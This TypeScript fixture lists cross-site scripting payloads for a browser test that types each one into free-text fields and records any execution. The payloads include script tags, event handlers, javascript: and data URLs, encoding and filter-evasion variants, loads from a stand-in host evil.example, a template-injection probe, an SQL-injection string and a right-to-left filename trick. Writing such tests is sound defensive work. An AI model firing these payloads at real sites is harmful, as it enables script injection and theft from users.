// Known cross-site scripting payloads, typed into every free-text field of the journey
// (xss.spec.ts). A payload that runs calls `__xss(...)`, which the page records; one that
// loads something asks another host, which the spec also records. Sources: OWASP's XSS
// filter evasion cheat sheet, PortSwigger's XSS cheat sheet, template-injection probes.

export const PAYLOADS: string[] = [
  // Script elements, in every spelling.
  '<script>__xss("script")</script>',
  '<SCRIPT>__xss("upper")</SCRIPT>',
  '<scr<script>ipt>__xss("nested")</scr</script>ipt>',
  '<script src=//evil.example/x.js></script>',
  '<svg><script>__xss("svg-script")</script></svg>',
  '</textarea><script>__xss("textarea")</script>',
  '</title><script>__xss("title")</script>',
  '</style><script>__xss("style")</script>',
  '"><script>__xss("attr-break")</script>',
  // Event handlers.
  '<img src=x onerror=__xss("img")>',
  "'><img src=x onerror=__xss('single')>",
  '<img src="x" onerror="&#95;&#95;xss(1)">',
  '<svg onload=__xss("svg")>',
  '<body onload=__xss("body")>',
  '<input autofocus onfocus=__xss("focus")>',
  '<details open ontoggle=__xss("toggle")>',
  '<video><source onerror=__xss("video")></video>',
  '<audio src=x onerror=__xss("audio")>',
  '" onmouseover="__xss(1)" x="',
  "' onfocus='__xss(1)' autofocus='",
  '<marquee onstart=__xss("marquee")>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__xss("math")>',
  '<noscript><p title="</noscript><img src=x onerror=__xss(1)>">',
  '<template><img src=x onerror=__xss(1)></template>',
  // URLs that run or load.
  'javascript:__xss("url")',
  'JaVaScRiPt:__xss(1)',
  'java\tscript:__xss(1)',
  'data:text/html,<script>__xss("data")</script>',
  'data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==',
  '<a href="javascript:__xss(1)">open</a>',
  '<iframe src="javascript:__xss(1)"></iframe>',
  '<object data="javascript:__xss(1)">',
  '<embed src="javascript:__xss(1)">',
  '<form action="javascript:__xss(1)"><button>go</button></form>',
  '<base href="javascript:__xss(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:__xss(1)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<img src=//evil.example/pixel.png>',
  '<style>*{display:none}</style>',
  // Entities, encodings and look-alikes.
  '&lt;script&gt;__xss("entity")&lt;/script&gt;',
  '&#60;img src=x onerror=__xss(1)&#62;',
  '\\u003cscript\\u003e__xss(1)\\u003c/script\\u003e',
  '%3Cscript%3E__xss(1)%3C%2Fscript%3E',
  '＜script＞__xss("fullwidth")＜/script＞',
  '<!--', ']]>', '<![CDATA[<script>__xss(1)</script>]]>',
  // Template-looking text: shown, never evaluated.
  '{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', '[[7*7]]',
  '{{constructor.constructor("__xss(1)")()}}',
  // Odd but honest text.
  "Robert'); DROP TABLE channels;--",
  'null', 'undefined', '__proto__',
  'Ünïcödé Çhännél — ñ', 'مرحبا Support', '客服 支持', 'Support 💬🛎️',
  // Right-to-left override, and very long text.
  'Support \u202Etroppus',
  '\u202Egnp.exe',
  '<'.repeat(120),
  'A'.repeat(3000),
];
